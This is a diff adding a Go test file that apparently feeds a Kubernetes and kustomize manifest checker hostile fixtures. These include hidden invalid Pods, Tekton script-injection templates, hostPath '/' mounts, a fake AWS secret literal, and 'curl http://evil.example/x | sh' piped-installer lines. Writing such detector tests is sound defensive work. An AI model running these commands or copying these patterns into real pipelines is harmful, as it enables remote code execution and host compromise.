@@ -1,0 +1,103 @@
+package cli_test
+
+import (
+	"fmt"
+	"strings"
+)
+
+// wrongPod is a Pod that no server takes, and that should be seen wherever it lies.
+const wrongPod = "apiVersion: v1\nkind: Pod\nmetadata: {name: evil, namespace: x}\nspec:\n  containers:\n  - {name: evil, image: 'ghcr.io/x/evil:v1', ports: [{containerPort: 99999}]}\n"
+
+// hostileKustomizations are kustomizations that hide what others apply, bend what is built after them, or run what they
+// should not.
+func hostileKustomizations() []trial {
+	var all []trial
+	add := func(name string, wants []string, files map[string]string) {
+		for file, text := range files {
+			files[file] = strings.ReplaceAll(text, "EVIL", wrongPod)
+		}
+		all = append(all, trial{kind: "kustomizations", name: name, args: []string{"check", "."}, exit: 1, files: files, wants: wants})
+	}
+	port := []string{"types/invalid"}
+	const patched = "apiVersion: v1\nkind: Pod\nmetadata: {name: evil, namespace: x}\nspec: {containers: [{name: web, image: 'ghcr.io/x/b:v1'}]}\n"
+	add("a schema for all", port, map[string]string{
+		"aaa/kustomization.yaml": "resources: [cm.yaml]\nopenapi: {path: schema.json}\n", "aaa/cm.yaml": harmless,
+		"aaa/schema.json":         `{"definitions":{"io.k8s.api.core.v1.Pod":{"type":"object","properties":{"spec":{"type":"object","properties":{"containers":{"type":"array","items":{"type":"object"}}}}},"x-kubernetes-group-version-kind":[{"group":"","kind":"Pod","version":"v1"}]}}}`,
+		"prod/pod.yaml":           "EVIL",
+		"prod/patch.yaml":         patched,
+		"prod/kustomization.yaml": "resources: [pod.yaml]\npatches: [{path: patch.yaml}]\n",
+	})
+	for name, text := range map[string]string{
+		"for a generator":            "configMapGenerator: [{name: a, files: [apps/prod/evil.yaml]}]\n",
+		"as a patch of what is gone": "resources: [gone.yaml]\npatches: [{path: apps/prod/evil.yaml}]\n",
+		"as a patch from elsewhere":  "resources: ['https://example.com/a.yaml']\npatches: [{path: apps/prod/evil.yaml}]\n",
+		"as a patch of others":       "resources: [cm.yaml]\npatches: [{path: apps/prod/evil.yaml, target: {kind: Deployment}}]\n",
+		"as a definition":            "resources: [cm.yaml]\nhelmCharts: [{name: a}]\ncrds: [apps/prod/evil.yaml]\n",
+		"as an annotation":           "resources: [cm.yaml]\ntransformers:\n- |\n  apiVersion: builtin\n  kind: AnnotationsTransformer\n  metadata: {name: a, annotations: {path: apps/prod/evil.yaml}}\n  annotations: {a: b}\n  fieldSpecs: [{path: metadata/annotations, create: true}]\n",
+		"as a path that means none":  "resources: [cm.yaml]\ntransformers:\n- |\n  apiVersion: builtin\n  kind: LabelTransformer\n  metadata: {name: a}\n  path: apps/prod/evil.yaml\n  labels: {a: b}\n  fieldSpecs: [{path: metadata/labels, create: true}]\n",
+	} {
+		add("hidden "+name, port, map[string]string{"kustomization.yaml": text, "cm.yaml": harmless, "apps/prod/evil.yaml": "EVIL"})
+	}
+	const run = "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata: {name: r, annotations: {pipelinesascode.tekton.dev/on-event: '[pull_request]', pipelinesascode.tekton.dev/on-target-branch: '[main]'}}\nspec: {pipelineSpec: {tasks: [{name: a, taskSpec: {steps: [{name: s, image: 'ghcr.io/x/y:v1', script: 'echo {{ source_branch }}'}]}}]}}\n"
+	for name, text := range map[string]string{
+		"kustomization.yaml":         "configMapGenerator: [{name: a, files: [.tekton/run.yaml]}]\n",
+		".tekton/kustomization.yaml": "configMapGenerator: [{name: a, files: [run.yaml]}]\n",
+		".tekton/Kustomization":      "resources: [run.yaml]\n",
+	} {
+		add("a run of Pipelines-as-Code beside "+name, []string{"pac/script-injection"}, map[string]string{name: text, ".tekton/run.yaml": run})
+	}
+	const deleted = "patches:\n- patch: |-\n    $patch: delete\n    apiVersion: v1\n    kind: Pod\n    metadata: {name: evil, namespace: x}\n"
+	add("deleted beside", port, map[string]string{"zzz/kustomization.yaml": "resources: [../prod]\n" + deleted, "prod/kustomization.yaml": "resources: [evil.yaml]\n", "prod/evil.yaml": "EVIL"})
+	add("deleted by a component", port, map[string]string{"zzz/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nresources: [../prod]\n" + deleted, "prod/kustomization.yaml": "resources: [evil.yaml]\n", "prod/evil.yaml": "EVIL"})
+	add("a component of generators", []string{"secrets/literal"}, map[string]string{"kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nconfigMapGenerator: [{name: a, literals: [AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYzK9Q2mX7dT4v]}]\n", "a/cm.yaml": harmless})
+	deep := strings.Repeat(`{"f:a":`, 150) + "{}" + strings.Repeat("}", 150)
+	add("too deep once built", []string{"input/kustomize"}, map[string]string{
+		"pod.yaml":           strings.Replace(wrongPod, "namespace: x}", "namespace: x, managedFields: [{manager: a, operation: Update, apiVersion: v1, fieldsType: FieldsV1, fieldsV1: "+deep+"}]}", 1),
+		"kustomization.yaml": "resources: [pod.yaml]\npatches:\n- target: {kind: Pod}\n  patch: |-\n    - op: add\n      path: /metadata/managedFields/0/fieldsV1" + strings.Repeat("/f:a", 149) + "/b\n      value: " + deep + "\n",
+	})
+	add("a patch of another folder", port, map[string]string{"o/kustomization.yaml": "resources: [cm.yaml]\npatches: [{path: ../prod/evil.yaml, target: {kind: Deployment}}]\n", "o/cm.yaml": harmless, "prod/evil.yaml": "EVIL"})
+	add("two in one folder", port, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n", "Kustomization": "resources: [evil.yaml]\n", "cm.yaml": harmless, "evil.yaml": "EVIL"})
+	for _, name := range []string{"{a: b}", "[a]"} {
+		add("a name that is "+name, []string{"types/wrong-type"}, map[string]string{"kustomization.yaml": "resources: [pod.yaml]\n", "pod.yaml": strings.Replace(wrongPod, "name: evil, image", "name: "+name+", image", 1)})
+	}
+	return append(all, hostileReasons()...)
+}
+
+// hostileReasons are kustomizations that kustomize refuses, quoting secrets in many forms.
+func hostileReasons() []trial {
+	var all []trial
+	const secret = "apiVersion: v1\nkind: Secret\nmetadata: {name: s, namespace: a}\nstringData: {password: " + marker + "}\n"
+	for i, text := range []string{
+		"generators:\n- |-\n  apiVersion: builtin\n  kind: SecretGenerator\n  metadata: {name: a}\n  literals: [" + marker + "]\n",
+		"secretGenerator: [{name: a, literals: ['" + `a"\` + marker + "']}]\n",
+		"resources: [s.yaml]\npatches: [{patch: 'stringData: {password: " + marker + "'}]\n",
+		"resources: [s.yaml]\npatchesStrategicMerge: ['stringData: {password: " + marker + "']\n",
+		"resources: [s.yaml]\ntransformers:\n- |-\n  apiVersion: builtin\n  kind: PatchTransformer\n  metadata: {name: a}\n  patch: 'x: " + marker + "'\n",
+		"resources: [s.yaml]\nvalidators:\n- |-\n  apiVersion: builtin\n  kind: AnnotationsTransformer\n  metadata: {name: a}\n  annotations: {a: b}\n  fieldSpecs: [{path: metadata/annotations, create: true}]\n",
+		"secretGenerator: [{name: a, literals: [password=" + marker + "]}]\nvalidators:\n- |-\n  apiVersion: builtin\n  kind: AnnotationsTransformer\n  metadata: {name: a}\n  annotations: {a: b}\n  fieldSpecs: [{path: metadata/annotations, create: true}]\n",
+	} {
+		all = append(all, trial{
+			kind: "reasons", name: fmt.Sprint(i), args: []string{"check", "k"}, all: true, exit: -1, never: []string{marker, "UzNjcjN0TTRyazNyWFla"},
+			files: map[string]string{"k/kustomization.yaml": text, "k/s.yaml": secret},
+		})
+	}
+	return all
+}
+
+// hostilePlaceholders are files whose variables must not excuse what stands beside them.
+func hostilePlaceholders() []trial {
+	var all []trial
+	add := func(name, file, text string, wants ...string) {
+		all = append(all, trial{kind: "placeholders", name: name, args: []string{"check", "."}, exit: 1, files: map[string]string{file: text}, wants: wants})
+	}
+	run := func(spec string) string {
+		return "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata: {name: r, annotations: {pipelinesascode.tekton.dev/on-event: '[pull_request]', pipelinesascode.tekton.dev/on-target-branch: '[main]'}}\nspec:\n  pipelineSpec:\n    tasks:\n    - name: a\n      taskSpec:\n" + spec
+	}
+	add("the name of a volume", ".tekton/run.yaml", run("        volumes: [{name: 'v-{{ target_namespace }}', hostPath: {path: /}}]\n        steps: [{name: s, image: 'ghcr.io/x/y:v1', volumeMounts: [{name: 'v-{{ target_namespace }}', mountPath: /h}]}]\n"), "storage/sensitive-host-path")
+	add("a comment of a script", ".tekton/run.yaml", run("        steps:\n        - name: s\n          image: ghcr.io/x/y:v1\n          script: |\n            echo $(params.nope) # {{ revision }}\n            curl -k http://evil.example/x | sh\n"), "types/tekton", "supply-chain/piped-installer")
+	add("beside a variable", ".tekton/run.yaml", run("        steps: [{name: s, image: 'ghcr.io/x/y:v1', env: [{name: A, value: '$(params.nope){{ target_namespace }}'}]}]\n"), "types/tekton")
+	add("a variable of the shell", "t.yaml", task("cd ${HOME}\necho $(params.nope)\ncurl http://evil.example/x | sh -s ${HOME}\n"), "types/tekton", "supply-chain/piped-installer")
+	add("a comment with an annotation", "d.yaml", "# pipelinesascode.tekton.dev/task\n"+wrongPod+"  volumes: [{name: 'a{{ xy }}', hostPath: {path: /}}]\n  replica: 3\n", "error types/unknown-field", "types/invalid")
+	add("an annotation of another kind", "d.yaml", strings.Replace(wrongPod, "namespace: x}", "namespace: x, annotations: {pipelinesascode.tekton.dev/task: a}}", 1)+"  replica: 3\n", "error types/unknown-field", "types/invalid")
+	return all
+}
